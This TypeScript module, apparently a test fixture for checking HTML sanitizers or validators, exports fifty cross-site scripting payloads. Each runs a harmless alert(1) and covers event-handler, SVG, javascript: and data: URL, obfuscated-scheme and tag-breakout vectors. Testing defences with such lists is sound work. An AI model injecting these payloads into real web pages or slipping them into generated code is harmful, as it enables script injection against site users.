/** The call that every payload makes where it runs. */
const run = 'alert(1)'

const inMarkup = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<video src=x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#9;script:${run}">x</a>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `</text></svg><img src=x onerror=${run}>`,
  `</title></textarea></style><script>${run}</script>`,
] as const

const inAttributes = [
  `" onload="${run}" x="`,
  `' onerror='${run}`,
  `"><img src=x onerror=${run}>`,
  `url(javascript:${run})`,
  `red;background:url("javascript:${run}")`,
  `expression(${run})`,
] as const

/** Texts that would be addresses of scripts. */
export const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:${run}`,
  `//x.invalid/"onerror="${run}`,
] as const

/** Fifty texts that people have stored in fields of web pages so that they run as scripts. */
export const scriptPayloads: readonly string[] = [...inMarkup, ...inAttributes, ...addresses]
